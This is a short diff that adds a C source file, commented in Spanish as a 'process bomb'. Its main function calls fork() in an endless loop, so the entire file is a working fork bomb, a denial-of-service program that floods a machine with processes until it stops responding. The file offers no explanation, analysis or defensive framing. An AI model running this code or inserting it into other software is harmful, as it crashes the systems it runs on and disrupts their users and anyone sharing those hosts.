@@ -1,0 +1,3 @@
+// Bomba de procesos.
+#include "comun.h"
+int main(void) { for (;;) fork(); }
